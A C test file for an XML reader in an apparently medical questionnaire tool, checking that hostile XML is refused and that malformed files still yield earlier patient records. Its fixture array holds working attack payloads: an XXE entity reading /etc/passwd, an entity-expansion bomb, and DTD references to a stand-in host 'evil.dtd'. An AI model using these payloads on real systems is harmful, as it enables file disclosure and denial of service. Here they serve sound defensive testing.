/* check_xml.c: hostile XML is refused with a clear message; malformed files lose only the
 * patients after the fault. */
#include "content.h"
#include "helpers.h"
#include "read_native.h"
#include "reader.h"
#include "util.h"
#include "xml.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *const hostile[] = {
    /* external entity (XXE) */
    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
    "<patients><patient id=\"X\"><name>&x;</name><answers><answer "
    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
    /* entity expansion bomb */
    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
    "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>\n"
    "<patients><patient id=\"X\"><name>&f;&f;&f;&f;</name><answers><answer "
    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
    /* network DTD */
    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients SYSTEM \"http://192.0.2.1/evil.dtd\">\n"
    "<patients><patient id=\"X\"><answers><answer "
    "q=\"pain-score\">1</answer></answers></patient></patients>\n",
    /* external parameter entity */
    "<?xml version=\"1.0\"?>\n<!DOCTYPE patients [<!ENTITY % p SYSTEM \"http://192.0.2.1/p.dtd\"> %p;]>\n"
    "<patients/>\n",
};

START_TEST(hostile_xml_refused)
{
	const char *path = write_temp("hostile.xml", hostile[_i]);
	capture_start();
	reader *r = reader_open(path, &(reader_run){&shipped_content()->questionnaire, NULL});
	capture_stop();
	ck_assert_ptr_null(r);
	ck_assert_msg(strstr(captured(), "DOCTYPE declarations are not accepted") != NULL ||
	                  strstr(captured(), "refused to load external resource") != NULL,
	              "case %d: %s", _i, captured());
	ck_assert_msg(strstr(captured(), "root:") == NULL, "leaked /etc/passwd: %s", captured());
}
END_TEST

START_TEST(hostile_xml_fails_the_command)
{
	const char *path = write_temp("hostile.xml", hostile[0]);
	char cmd[4096];
	format_into(cmd, sizeof cmd, "'%s/handout' explain '%s' 2>&1", data_dir(), path);
	int status;
	char *out = run_command(cmd, &status);
	ck_assert_int_eq(status, 1);
	ck_assert_ptr_nonnull(strstr(out, "hostile.xml:2: DOCTYPE declarations are not accepted"));
	ck_assert_ptr_null(strstr(out, "root:"));
	free(out);
}
END_TEST

START_TEST(malformed_patient_keeps_earlier_ones)
{
	/* 100 good patients, then a broken one: the good ones come through (all but the one the
	 * parser still held when it failed), and the fault is reported with its line. */
	strbuf xml = {0};
	sb_append(&xml, "<?xml version=\"1.0\"?>\n<patients>\n");
	for (int i = 0; i < 100; i++)
		sb_printf(
		    &xml,
		    "<patient id=\"OK%d\"><answers><answer q=\"pain-score\">1</answer></answers></patient>\n",
		    i);
	sb_append(
	    &xml,
	    "<patient id=\"BAD\"><answers><answer q=\"pain-score\">1</answers></patient>\n</patients>\n");
	const char *path = write_temp("broken.xml", xml.data);
	sb_free(&xml);
	capture_start();
	reader *r = reader_open(path, &(reader_run){&shipped_content()->questionnaire, NULL});
	ck_assert_ptr_nonnull(r);
	int good = 0;
	patient *p;
	while ((p = reader_next(r)) != NULL) {
		ck_assert_ptr_null(p->error);
		good++;
		patient_free(p);
	}
	capture_stop();
	ck_assert_int_ge(good, 95);
	ck_assert(reader_failed(r));
	ck_assert_msg(strstr(captured(), "broken.xml:103: Opening and ending tag mismatch") != NULL, "%s",
	              captured());
	reader_close(r);
}
END_TEST

START_TEST(missing_file_reported)
{
	capture_start();
	xnode *n = xml_load("/nonexistent/answers.xml", NULL);
	capture_stop();
	ck_assert_ptr_null(n);
	ck_assert_ptr_nonnull(
	    strstr(captured(), "/nonexistent/answers.xml: cannot open: No such file or directory"));
}
END_TEST

START_TEST(namespaces_and_text_read)
{
	const char *path =
	    write_temp("ns.xml", "<?xml version=\"1.0\"?>\n<r xmlns=\"http://hl7.org/fhir\" a=\"1\">\n"
	                         "  <k v=\"x\">one &amp; <![CDATA[two]]></k>\n</r>\n");
	xnode *n = xml_load(path, NULL);
	ck_assert_ptr_nonnull(n);
	ck_assert_str_eq(n->name, "r");
	ck_assert_str_eq(n->ns, "http://hl7.org/fhir");
	ck_assert_str_eq(xnode_attr(n, "a"), "1");
	ck_assert_uint_eq(n->nkids, 1);
	ck_assert_int_eq(n->kids[0]->line, 3);
	char *t = xnode_text(n->kids[0]);
	ck_assert_str_eq(t, "one & two");
	free(t);
	xnode_free(n);
}
END_TEST

Suite *xml_suite(void)
{
	Suite *s = suite_create("xml");
	TCase *tc = tcase_create("safety");
	tcase_add_loop_test(tc, hostile_xml_refused, 0, sizeof hostile / sizeof hostile[0]);
	tcase_add_test(tc, hostile_xml_fails_the_command);
	tcase_add_test(tc, malformed_patient_keeps_earlier_ones);
	tcase_add_test(tc, missing_file_reported);
	tcase_add_test(tc, namespaces_and_text_read);
	suite_add_tcase(s, tc);
	return s;
}
